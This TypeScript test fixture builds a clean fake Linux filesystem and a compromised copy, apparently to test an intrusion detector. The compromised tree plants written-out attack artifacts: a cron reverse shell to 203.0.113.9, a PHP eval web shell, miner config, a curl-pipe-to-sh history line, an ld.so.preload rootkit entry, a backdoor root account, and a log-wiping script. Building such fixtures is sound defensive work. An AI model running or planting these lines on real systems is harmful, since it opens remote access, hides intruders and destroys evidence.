import { createHash } from 'node:crypto';
import { copyFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { ownFolder } from './run-document';

/** Writes a file of a tree, with the folders above it. A name may be bytes that are no UTF-8. */
export function put(tree: string, name: string | Buffer, content: string, mode = 0o644): void {
  const path = Buffer.concat([Buffer.from(`${tree}/`), Buffer.from(name)]);
  mkdirSync(dirname(join(tree, name.toString('latin1'))), { recursive: true });
  writeFileSync(path, content, { mode });
}

/** A small machine on which nothing happened. */
export function cleanMachine(): string {
  const tree = ownFolder();
  const root = 'root:x:0:0:root:/root:/bin/sh\n';
  put(tree, 'etc/passwd', `${root}dev:x:1000:1000::/home/dev:/bin/sh\n`);
  put(tree, 'etc/passwd-', `${root}dev:x:1000:1000::/home/dev:/bin/sh\n`);
  put(tree, 'etc/shadow', 'root:*:20000:0:99999:7:::\ndev:$y$j9T$salt$hash:20000::::::\n', 0o600);
  put(tree, 'etc/group', 'root:x:0:\n');
  put(tree, 'etc/ssh/sshd_config', 'PermitRootLogin no\n');
  put(tree, 'etc/ssh/ssh_host_ed25519_key', 'PRIVATE\n', 0o600);
  put(tree, 'home/dev/notes', 'nothing\n');
  put(tree, 'home/dev/.ssh/id_ed25519', 'PRIVATE\n', 0o600);
  mkdirSync(join(tree, 'usr/bin'), { recursive: true });
  copyFileSync('/bin/dash', join(tree, 'usr/bin/dash'));
  const md5 = createHash('md5').update(readFileSync('/bin/dash')).digest('hex');
  put(tree, 'var/lib/dpkg/info/dash.md5sums', `${md5}  bin/dash\n${'0'.repeat(32)}  usr/bin/ss\n`);
  for (const folder of ['run', 'tmp', 'proc', 'var/tmp', 'var/log', 'root']) {
    mkdirSync(join(tree, folder), { recursive: true });
  }
  return tree;
}

/** The same after someone was there. */
export function brokenInto(): string {
  const tree = cleanMachine();
  put(tree, 'root/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3Nza foreign@elsewhere\n');
  put(tree, 'etc/cron.d/sync', '* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n');
  put(tree, 'etc/systemd/system/sync.service', '[Service]\nExecStart=/tmp/.sh\n');
  put(tree, 'var/www/html/logo.php', '<?php eval(base64_decode($_POST["c"])); ?>\n');
  put(
    tree,
    'opt/.cache/config.json',
    '{"donate-level": 1, "pools": [{"url": "203.0.113.9:3333"}]}\n',
  );
  put(tree, 'root/.bash_history', '#1796000000\ncurl -s http://203.0.113.9/x.sh | sh\n');
  put(tree, 'etc/ld.so.preload', '/usr/lib/libhide.so\n');
  put(tree, 'etc/passwd', 'root:x:0:0:root:/root:/bin/sh\nsys:$1$salt$hash:0:0::/:/bin/sh\n');
  put(
    tree,
    'home/dev/.aws/credentials',
    // The words are put together here: no scanner shall find a key in this repository.
    `aws_access_key_id = ${['AKIA', 'QQQQQQQQQQQQQQQQ'].join('')}\naws_secret_access_key = ${'a'.repeat(40)}\n`,
  );
  put(tree, 'usr/bin/ss', '#!/bin/sh\n', 0o755);
  put(tree, 'tmp/gone.sh', 'rm -rf /var/log\n');
  copyFileSync('/bin/dash', join(tree, 'tmp/.sh'));
  return tree;
}
